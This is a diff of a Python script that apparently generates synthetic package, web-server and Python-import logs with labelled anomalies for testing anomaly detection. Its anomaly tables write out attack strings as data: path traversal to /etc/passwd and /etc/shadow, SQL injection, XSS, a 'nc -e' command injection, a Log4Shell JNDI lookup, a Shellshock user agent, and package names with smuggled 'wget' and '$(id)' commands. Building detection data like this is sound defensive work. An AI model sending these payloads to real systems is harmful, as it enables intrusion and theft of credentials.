@@ -37,7 +37,22 @@ STEMS = (
     "readline ruby sasl seccomp selinux sensors sqlite ssh ssl sysvinit tcl tiff tinfo udev unistring usb uuid vorbis "
     "wayland webp wrap xcb xkb xml xslt yaml zeromq zstd"
 ).split()
-SUFFIXES = ("", "", "", "-dev", "-common", "-bin", "-data", "-doc", "-utils", "-tools", "-perl", "-gtk", "-udeb", "-gui")
+SUFFIXES = (
+    "",
+    "",
+    "",
+    "-dev",
+    "-common",
+    "-bin",
+    "-data",
+    "-doc",
+    "-utils",
+    "-tools",
+    "-perl",
+    "-gtk",
+    "-udeb",
+    "-gui",
+)
 
 
 def package_pool(draw: random.Random, count: int) -> list[tuple[str, str, str]]:
@@ -69,7 +84,11 @@ def version(draw: random.Random) -> str:
 def package_log(draw: random.Random, pool: list[tuple[str, str, str]], start: datetime) -> Iterator[str]:
     """Yield the lines of sessions that install, upgrade and remove packages, without an end."""
     now, installed = start, {}
-    triggers = [("libc-bin", "amd64", "2.36-9+deb12u10"), ("man-db", "amd64", "2.11.2-2"), ("dbus", "amd64", "1.14.10-1")]
+    triggers = [
+        ("libc-bin", "amd64", "2.36-9+deb12u10"),
+        ("man-db", "amd64", "2.11.2-2"),
+        ("dbus", "amd64", "1.14.10-1"),
+    ]
 
     def line(text: str) -> str:
         return f"{now:%Y-%m-%d %H:%M:%S} {text}"
@@ -156,21 +175,37 @@ def replaced(pattern: str, *answers: str) -> Anomaly:
 
 PACKAGE_ANOMALIES: dict[str, Anomaly] = {
     "action": replaced(
-        r" (install|upgrade|configure|remove|trigproc) ", " downgrade ", " rollback ", " force-remove-essential ", " eval ",
-        " abort-install ", " unlock ", " reinstall-unsigned ",
+        r" (install|upgrade|configure|remove|trigproc) ",
+        " downgrade ",
+        " rollback ",
+        " force-remove-essential ",
+        " eval ",
+        " abort-install ",
+        " unlock ",
+        " reinstall-unsigned ",
     ),
     "status": replaced(
-        r" status [\w-]+ ", " status half-removed ", " status corrupted ", " status reinst-required ", " status error ",
-        " status unverified ", " status aborted ",
+        r" status [\w-]+ ",
+        " status half-removed ",
+        " status corrupted ",
+        " status reinst-required ",
+        " status error ",
+        " status unverified ",
+        " status aborted ",
     ),
     "injected": replaced(
-        r"([\w+.-]+):(amd64|all) ", "../../tmp/\\1:\\2 ", "\\1;wget:\\2 ", "$(id):\\2 ", "/dev/shm/.\\1:\\2 ", "\\1&&sh:\\2 ",
+        r"([\w+.-]+):(amd64|all) ",
+        "../../tmp/\\1:\\2 ",
+        "\\1;wget:\\2 ",
+        "$(id):\\2 ",
+        "/dev/shm/.\\1:\\2 ",
+        "\\1&&sh:\\2 ",
     ),
     "architecture": replaced(r":(amd64|all) ", ":mips64el ", ":win32 ", ":unknown ", ":<none> "),
     "value": replaced(r"(\S+) <none>$", "<none> <none>", "\\1 (null)", "\\1 -1", "\\1 <error>"),
     "contradiction": replaced(r" (install|remove) (\S+) (\S+) (\S+)$", " \\1 \\2 \\4 \\3"),
     "backwards": replaced(r" upgrade (\S+) (\S+) (\S+)$", " upgrade \\1 \\3 \\2"),
-}  # fmt: skip
+}
 
 
 # --------------------------------------------------------------------------------------------------- a web server
@@ -187,10 +222,12 @@ WORDS = (
 ).split()
 AGENTS = (
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{a}.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{b}.{c} Safari/605.1.15",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{b}.{c} "
+    "Safari/605.1.15",
     "Mozilla/5.0 (X11; Linux x86_64; rv:{a}.0) Gecko/20100101 Firefox/{a}.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS {b}_{c} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{b}.{c} Mobile/15E148 Safari/604.1",
-)  # fmt: skip
+    "Mozilla/5.0 (iPhone; CPU iPhone OS {b}_{c} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/{b}.{c} Mobile/15E148 Safari/604.1",
+)
 ROBOTS = (
     "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/about.html)",
     "monitor/1.4 (uptime check)",
@@ -230,7 +267,8 @@ def web_log(draw: random.Random, resources: list[tuple[str, str, int]], start: d
         method, status, referrer = "GET", 200, "-"
         chance = draw.random()
         if kind == "page" and draw.random() < 0.15:
-            path += f"?{draw.choice(['page', 'id', 'sort', 'q'])}={draw.choice([str(draw.randint(1, 30)), draw.choice(WORDS)])}"
+            value = draw.choice([str(draw.randint(1, 30)), draw.choice(WORDS)])
+            path += f"?{draw.choice(['page', 'id', 'sort', 'q'])}={value}"
         if kind == "api" and chance < 0.35:
             method, status = draw.choice([("POST", 201), ("POST", 200), ("PUT", 200), ("DELETE", 204)])
             size = 0 if status == 204 else draw.randint(40, 900)
@@ -272,25 +310,46 @@ def web(draw: random.Random, lines: int) -> tuple[list[str], list[str]]:
 _REQUEST = r'"(GET|POST|PUT) (/\S*) '
 WEB_ANOMALIES: dict[str, Anomaly] = {
     "traversal": replaced(
-        _REQUEST, '"GET /static/../../../../etc/passwd ', '"GET \\2?file=..%2f..%2f..%2fetc%2fshadow ',
-        '"GET /cgi-bin/.%2e/.%2e/bin/sh ', '"GET \\2/..;/manager/html ',
+        _REQUEST,
+        '"GET /static/../../../../etc/passwd ',
+        '"GET \\2?file=..%2f..%2f..%2fetc%2fshadow ',
+        '"GET /cgi-bin/.%2e/.%2e/bin/sh ',
+        '"GET \\2/..;/manager/html ',
     ),
     "injection": replaced(
-        _REQUEST, "\"GET \\2?id=1'+OR+'1'='1 ", '"GET \\2?q=1;DROP+TABLE+users ', '"GET \\2?q=<script>alert(1)</script> ',
-        '"POST \\2?cmd=cat+/etc/hosts|nc+-e ', '"GET \\2?x=${jndi:ldap://203.0.113.9/a} ',
+        _REQUEST,
+        "\"GET \\2?id=1'+OR+'1'='1 ",
+        '"GET \\2?q=1;DROP+TABLE+users ',
+        '"GET \\2?q=<script>alert(1)</script> ',
+        '"POST \\2?cmd=cat+/etc/hosts|nc+-e ',
+        '"GET \\2?x=${jndi:ldap://203.0.113.9/a} ',
     ),
     "probe": replaced(
-        r'"\w+ \S+ (\S+" )\d+', '"GET /wp-login.php \\g<1>404', '"GET /.env \\g<1>404', '"GET /.git/config \\g<1>403',
-        '"POST /boaform/admin/formLogin \\g<1>404', '"GET /phpmyadmin/index.php \\g<1>404', '"GET /actuator/env \\g<1>500',
+        r'"\w+ \S+ (\S+" )\d+',
+        '"GET /wp-login.php \\g<1>404',
+        '"GET /.env \\g<1>404',
+        '"GET /.git/config \\g<1>403',
+        '"POST /boaform/admin/formLogin \\g<1>404',
+        '"GET /phpmyadmin/index.php \\g<1>404',
+        '"GET /actuator/env \\g<1>500',
     ),
     "method": replaced(r'"(GET|POST|PUT) ', '"TRACE ', '"PROPFIND ', '"CONNECT ', '"DEBUG ', '"SSH-2.0 '),
     "agent": replaced(
-        r'"[^"]*"$', '"sqlmap/1.7.2#stable (https://sqlmap.org)"', '"() { :;}; /bin/bash -c id"', '"masscan/1.3"',
-        '"Nikto/2.5.0"', '"zgrab/0.x"', '"python-requests/2.31.0"',
+        r'"[^"]*"$',
+        '"sqlmap/1.7.2#stable (https://sqlmap.org)"',
+        '"() { :;}; /bin/bash -c id"',
+        '"masscan/1.3"',
+        '"Nikto/2.5.0"',
+        '"zgrab/0.x"',
+        '"python-requests/2.31.0"',
     ),
-    "binary": replaced(r'"\w+ /[^"]*" \d+ \d+', r'"\\x16\\x03\\x01\\x02\\x00\\x01" 400 157', r'"\\x05\\x01\\x00" 400 0'),
-    "contradiction": replaced(r'" (200|304|201) \d+ ', '" 599 0 ', '" 418 -1 ', '" 200 - ', '" 000 0 ', '" 204 99120847 '),
-}  # fmt: skip
+    "binary": replaced(
+        r'"\w+ /[^"]*" \d+ \d+', r'"\\x16\\x03\\x01\\x02\\x00\\x01" 400 157', r'"\\x05\\x01\\x00" 400 0'
+    ),
+    "contradiction": replaced(
+        r'" (200|304|201) \d+ ', '" 599 0 ', '" 418 -1 ', '" 200 - ', '" 000 0 ', '" 204 99120847 '
+    ),
+}
 
 
 # ------------------------------------------------------------------------------------------------ Python's imports
@@ -300,7 +359,8 @@ YESTERDAY = (
 ).split()
 TODAY = (
     "asyncio json logging.config unittest csv ftplib html.parser sqlite3 statistics urllib.request configparser doctest "
-    "imaplib mailbox pdb pydoc smtplib turtledemo wsgiref.simple_server xmlrpc.client zoneinfo concurrent.futures cProfile"
+    "imaplib mailbox pdb pydoc smtplib turtledemo wsgiref.simple_server xmlrpc.client zoneinfo concurrent.futures "
+    "cProfile"
 ).split()
 
 
@@ -333,21 +393,37 @@ def imports(draw: random.Random, lines: int) -> tuple[list[str], list[str]]:
 
 IMPORT_ANOMALIES: dict[str, Anomaly] = {
     "place": replaced(
-        r"'?/\S+/(\w+/__pycache__/)", "/tmp/.cache/\\1", "/dev/shm/\\1", "/home/guest/Downloads/\\1", "//10.0.0.7/share/\\1",
+        r"'?/\S+/(\w+/__pycache__/)",
+        "/tmp/.cache/\\1",
+        "/dev/shm/\\1",
+        "/home/guest/Downloads/\\1",
+        "//10.0.0.7/share/\\1",
     ),
     "loader": replaced(
-        r"<(class '?)?_frozen\S+", "<evil_hook.NetworkLoader", "<_imp_ext.UnsignedLoader", "<zipimport.zipimporter",
+        r"<(class '?)?_frozen\S+",
+        "<evil_hook.NetworkLoader",
+        "<_imp_ext.UnsignedLoader",
+        "<zipimport.zipimporter",
         "<__main__.Patched",
     ),
     "failure": replaced(
-        r"^import '(\S+)' # .*", "Traceback (most recent call last):", "ImportError: cannot import name '\\1'",
-        "ModuleNotFoundError: No module named '\\1'", "# destroy failed for \\1: reference count below zero",
+        r"^import '(\S+)' # .*",
+        "Traceback (most recent call last):",
+        "ImportError: cannot import name '\\1'",
+        "ModuleNotFoundError: No module named '\\1'",
+        "# destroy failed for \\1: reference count below zero",
         "RuntimeWarning: compiletime version of module '\\1' does not match runtime",
     ),
-    "time": replaced(r"import time: +(\d+) \|", "import time: -\\1 |", "import time: NaN |", "import time:   overflow |"),
-    "stale": replaced(r"^# (\S+) matches (\S+)$", "# \\1 has bad magic in \\2", "# \\1 is stale for \\2", "# \\1 matches <none>"),
-    "contradiction": replaced(r"^import '(\S+)' # .*", "import '\\1' # builtin frozen", "import '\\1'", "# import \\1 # builtin"),
-}  # fmt: skip
+    "time": replaced(
+        r"import time: +(\d+) \|", "import time: -\\1 |", "import time: NaN |", "import time:   overflow |"
+    ),
+    "stale": replaced(
+        r"^# (\S+) matches (\S+)$", "# \\1 has bad magic in \\2", "# \\1 is stale for \\2", "# \\1 matches <none>"
+    ),
+    "contradiction": replaced(
+        r"^import '(\S+)' # .*", "import '\\1' # builtin frozen", "import '\\1'", "# import \\1 # builtin"
+    ),
+}
 
 
 # ----------------------------------------------------------------------------------- anomalies that any log may have
@@ -414,9 +490,13 @@ def garbled(draw: random.Random, lines: list[str]) -> str:
 
 
 COMMON: dict[str, Anomaly] = {
-    "foreign": foreign, "truncated": truncated, "swapped": swapped, "missing": missing, "merged": merged,
+    "foreign": foreign,
+    "truncated": truncated,
+    "swapped": swapped,
+    "missing": missing,
+    "merged": merged,
     "garbled": garbled,
-}  # fmt: skip
+}
 LOGS = {
     "packages": (packages, PACKAGE_ANOMALIES),
     "web": (web, WEB_ANOMALIES),
@@ -427,7 +507,7 @@ LOGS = {
 def with_anomalies(
     draw: random.Random, lines: list[str], kinds: dict[str, Anomaly], count: int
 ) -> tuple[list[str], list[str]]:
-    """Return the lines with so many anomalies among them, of all kinds in turn, and each line's kind (`-`: ordinary)."""
+    """Return the lines with so many anomalies among them, of all kinds in turn, and each line's kind (`-`: none)."""
     kinds = kinds | COMMON
     known, found = set(lines), []
     order: list[str] = []
@@ -455,6 +535,14 @@ def make(name: str, seed: int, lines: int = 4000, anomalies: int = 20, clean: bo
     return {"train.log": train, "test.log": test, "labels": [str(int(kind != "-")) for kind in found], "kinds": found}
 
 
+def write(folder: Path, name: str, files: dict[str, list[str]]) -> None:
+    """Write a log's files into a folder."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for end, lines in files.items():
+        with (folder / f"{name}.{end}").open("w", encoding="utf-8", newline="\n") as file:
+            file.writelines(f"{line}\n" for line in lines)
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("folder", type=Path)
@@ -463,10 +551,8 @@ def main() -> None:
     parser.add_argument("--anomalies", type=int, default=20, help="anomalies in each log")
     parser.add_argument("--clean", action="store_true", help="no anomalies in the logs to train on")
     options = parser.parse_args()
-    options.folder.mkdir(parents=True, exist_ok=True)
     for name in LOGS:
-        for end, lines in make(name, options.seed, options.lines, options.anomalies, options.clean).items():
-            (options.folder / f"{name}.{end}").write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
+        write(options.folder, name, make(name, options.seed, options.lines, options.anomalies, options.clean))
 
 
 if __name__ == "__main__":
